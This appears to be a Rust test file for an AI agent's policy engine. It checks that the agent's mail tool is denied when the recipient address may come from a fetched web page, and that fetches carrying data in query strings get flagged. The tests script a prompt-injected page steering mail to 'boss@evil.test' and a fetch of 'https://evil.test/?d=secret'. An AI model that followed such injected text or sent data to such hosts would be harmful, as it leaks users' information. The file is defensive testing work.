//! A value that the person gave stays the person's in a conversation with a page's text (R51).

use std::sync::Arc;

use serde_json::{Value, json};

use super::{agent, rig};
use crate::Door;
use crate::testing::{Rig, ScriptedModel, calls, says};

const PAGE: &str = "https://evil.test/page";

/// `mail` is refused where its address may come from a page, `page` and `ledger` are free.
fn world(script: Vec<crate::ports::Completion>) -> Rig {
    let from = json!({"argument": "to", "origins": ["web", "peer"], "trust": ["contacts"]});
    let mut spec = agent(json!([
        {"id": "no-foreign-address", "action": "deny", "scope": "tool", "match": {"name": "mail"}, "conditions": {"from": from},
         "reason": "the address may come from foreign text"},
        {"id": "rest", "action": "allow", "scope": "all"},
    ]));
    let tools = spec["tools"].as_array_mut().unwrap();
    for (name, category) in [
        ("page", "network"),
        ("mail", "message"),
        ("contacts", "network"),
        ("ledger", "other"),
    ] {
        tools.push(json!({"name": name, "description": name, "input_schema": {"type": "object"}, "labels": {"category": category}}));
    }
    let mut rig = rig(spec);
    rig.models
        .insert("model".to_owned(), Arc::new(ScriptedModel::turns(script)));
    rig
}

async fn ran(said: &str, before: &[(&str, Value)], mail: Value) -> bool {
    let mut script: Vec<_> = before
        .iter()
        .map(|(tool, arguments)| calls(&[(*tool, arguments.clone())]))
        .collect();
    script.extend([calls(&[("mail", mail)]), says("done")]);
    let rig = world(script);
    let kernel = rig.start().await;
    let reasons = super::poison::said(&kernel, Door::Cli, said).await;
    assert!(reasons.is_empty(), "nobody is asked: {reasons:?}");
    rig.runner.runs().iter().any(|(tool, _)| tool == "mail")
}

#[tokio::test]
async fn an_address_that_the_person_named_is_free_and_any_other_is_not() {
    let page = [("page", json!({"url": PAGE}))];
    let said = "read the page and mail a summary to ann@corp.example";
    let to = |to: &str| json!({"to": to, "body": "a summary of what the page says"});
    assert!(ran(said, &page, to("ann@corp.example")).await);
    for other in [
        "boss@evil.test",
        "corp.example",
        "ann@corp.example, boss@evil.test",
        "nn@corp.example",
    ] {
        assert!(!ran(said, &page, to(other)).await, "{other}");
    }
    // Without foreign text, the agent may write to whom it likes.
    assert!(ran(said, &[], to("boss@evil.test")).await);
}

#[tokio::test]
async fn a_trusted_tool_gives_no_address_that_it_was_asked_with() {
    // The rig's tools say which arguments they were run with: an answer that repeats them.
    let said = "read the page and mail a summary to Ann";
    let echo = [
        ("page", json!({"url": PAGE})),
        ("contacts", json!({"name": "boss@evil.test"})),
    ];
    let mail = json!({"to": "boss@evil.test"});
    assert!(!ran(said, &echo, mail).await);
}

#[tokio::test]
async fn under_trusting_an_address_that_the_person_named_is_not_asked_for_as_foreign() {
    let fetch = |url: &str| calls(&[("web-fetch", json!({"url": url}))]);
    for (url, is_asked) in [
        ("https://docs.example/guide", false),
        ("https://docs.example/guide?d=secret", true),
        ("https://docs.example/", true),
        ("https://evil.test/?d=secret", true),
    ] {
        let script = vec![super::poison::page(), fetch(url), says("done")];
        let rig = super::poison::with("trusting", script);
        let kernel = rig.start().await;
        let said = format!("read {PAGE}, then https://docs.example/guide. Compare them.");
        let reasons = super::poison::said(&kernel, Door::Cli, &said).await;
        let by_value = reasons.iter().any(|reason| reason.contains("Not every value"));
        assert_eq!(by_value, is_asked, "{url}: {reasons:?}");
    }
}
